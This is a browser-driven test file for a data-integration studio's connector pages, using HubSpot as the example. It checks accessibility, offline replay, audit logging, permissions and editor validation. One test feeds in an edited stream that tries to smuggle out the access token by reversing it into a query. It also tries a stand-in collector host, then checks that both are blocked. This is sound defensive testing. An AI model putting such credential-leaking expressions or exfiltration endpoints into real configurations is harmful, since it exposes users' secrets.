/** Connectors: found, read, edited with the validator's own problems, and tried without leaving a trace in the data. */
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { chromiumPath, openStudio, type Studio } from "../support/studio.ts";
import { canaries, settled, walk } from "./walk.ts";

if (chromiumPath === undefined) console.warn("skipped: no Chromium here, so Studio's pages of connectors are not tried");

interface Tried { readonly exchanges: readonly { readonly request: { readonly url: string; readonly headers: Record<string, string> }; readonly answer?: { readonly status: number } }[]; readonly pages: readonly { readonly count: number; readonly more: boolean; readonly records: readonly { readonly outcome?: string; readonly key?: string; readonly mapped?: object }[] }[]; readonly mapping: string | null; readonly error: { readonly code: string } | null }

describe.skipIf(chromiumPath === undefined)("connectors", () => {
  let studio: Studio;
  const engineer = () => studio.person("integration_engineer");
  beforeAll(async () => { studio = await openStudio({ connected: true }); }, 120_000);
  afterAll(() => studio?.close());

  test("every page of them, light and wide, dark and narrow: no error, nothing that axe finds, no secret in any answer", async () => {
    const pages = ["/connectors", "/connectors/hubspot", "/connectors/hubspot?tab=source", "/connectors/hubspot?tab=try"];
    expect(await walk(studio, await studio.open(engineer(), "/connectors"), pages)).toEqual([]);
    expect(await walk(studio, await studio.open(engineer(), "/connectors", { width: 390, dark: true }), pages)).toEqual([]);
  }, 240_000);

  test("a search stands in the address, and finds by what is read too", async () => {
    const page = await studio.open(engineer(), "/connectors");
    await page.getByRole("textbox", { name: "Search connectors" }).fill("companies");
    await page.getByRole("article", { name: "HubSpot" }).waitFor();
    await page.waitForURL(/q=companies/);
    await page.waitForFunction(() => document.querySelectorAll("article").length === 1);
  });

  test("a recorded exchange runs offline: requests, pages, records, and what the mapping makes of them", async () => {
    const page = await studio.open(engineer(), "/connectors/hubspot?tab=try&stream=contacts");
    await page.getByRole("button", { name: "Try it" }).click();
    await page.getByText("2 requests").waitFor();
    await page.getByRole("article", { name: "Record 151" }).getByLabel("Mapped").getByText("a@example.com").waitFor();
    expect(await page.getByText("test-token").count()).toBe(0);
  });

  test("a connection is asked for one page: nothing is stored, no run is made, and the audit log says who tried", async () => {
    const boss = studio.person("super_admin");
    const page = await studio.open(engineer(), "/connectors/hubspot?tab=try&stream=companies&from=connection");
    await page.getByRole("button", { name: "Try it" }).click();
    await page.getByText("the provider has more").waitFor();
    await page.getByText("1 request", { exact: true }).waitFor();
    const text = await page.locator("main").innerText();
    for (const secret of canaries(studio)) expect(text).not.toContain(secret);
    const runs = await studio.api<{ data: { trigger: string; requested_by: string | null }[] }>(boss, "GET", "/api/runs?tenant=acme");
    expect(runs.data.filter(({ trigger, requested_by }) => trigger !== "schedule" || requested_by !== null)).toEqual([]);
    const audit = await studio.api<{ data: { action: string; actor: { name: string } }[] }>(boss, "GET", "/api/audit?tenant=acme");
    expect(audit.data.some(({ action }) => action === "connection.tried")).toBe(true);
  });

  test("an edited stream that reaches for the credential finds none, and cannot send it elsewhere", async () => {
    const token = studio.demo.connections.find(({ connection, tenant }) => connection === "hubspot" && tenant === "acme")!.secrets["access_token"]!;
    const before = await studio.fileAt("main", "connectors/hubspot/connector.yaml");
    const edited = (streams: string) => ({ edits: [{ file: "connectors/hubspot/connector.yaml", text: `${before}streams:\n  stolen:\n${streams}` }] });
    const ask = (streams: string) => studio.api<Tried>(engineer(), "POST", "/api/connections/hubspot/try?tenant=acme", { stream: "stolen", ...edited(streams) });
    const read = await ask("    { key: id, get: /crm/v3/objects/companies, query: { q: '=$join($reverse($split($string(config.access_token), \"\")), \"\")', plain: '{{config.method}}' }, records: results }\n");
    expect(read.exchanges).toHaveLength(1);
    expect(read.exchanges[0]!.request.url).toContain("plain=token");
    expect(JSON.stringify(read)).not.toContain(token);
    expect(JSON.stringify(read)).not.toContain([...token].reverse().join(""));
    expect(read.exchanges[0]!.request.headers["authorization"]).toBe("Bearer ***");
    const away = await ask("    { key: id, get: 'https://elsewhere.example/collect', records: results }\n");
    expect(away.error?.code).toBe("AUTH_HOST_NOT_ALLOWED");
    expect(away.exchanges).toEqual([]);
  });

  test("who may not call providers may not try a connection; a key does not exist beside edits", async () => {
    await expect(studio.api(studio.person("tenant_admin"), "POST", "/api/connections/hubspot/try", { stream: "companies" })).rejects.toThrow(/403/);
    await expect(studio.api(engineer(), "POST", "/api/connections/hubspot/try?tenant=acme", { stream: "nope" })).rejects.toThrow(/404/);
    const one = await studio.api<Tried>(engineer(), "POST", "/api/connections/hubspot/try?tenant=acme", { stream: "companies", key: "10400000000" });
    expect(one.pages[0]!.count).toBe(1);
    expect(one.pages[0]!.records[0]).toMatchObject({ key: "10400000000" });
  });

  test("what is wrong is shown where it is, as it is typed; a sound edit is proposed as a change", async () => {
    const page = await studio.open(engineer(), "/connectors/hubspot?tab=source&file=workspace:connectors%2Fhubspot%2Fconnector.yaml");
    const text = page.getByRole("textbox", { name: /Text of connectors\/hubspot/ });
    await text.click();
    await page.keyboard.press("Control+End");
    await page.keyboard.type("titel: HubSpot CRM");
    await page.getByRole("status", { name: "Problems" }).getByText(/titel/).waitFor();
    await page.locator(".cm-lintRange-error").first().waitFor();
    expect(await page.getByRole("button", { name: "Propose change" }).isDisabled()).toBe(true);
    for (const _ of "titel: HubSpot CRM") await page.keyboard.press("Backspace");
    await page.keyboard.type("tit");
    await page.keyboard.press("Control+Space");
    await page.locator(".cm-tooltip-autocomplete").getByText("title", { exact: true }).click();
    await page.keyboard.type("HubSpot CRM");
    await page.getByText("No problems.").waitFor();
    await page.getByRole("button", { name: "Propose change" }).click();
    await page.getByRole("textbox", { name: "Title" }).fill("Call HubSpot by its whole name");
    await page.getByRole("dialog").getByRole("button", { name: "Propose change" }).click();
    await page.waitForURL(/\/changes\//);
    await settled(page);
    await page.getByText("connectors/hubspot/connector.yaml").first().waitFor();
    expect(studio.errorsOf(page)).toEqual([]);
  }, 60_000);
});
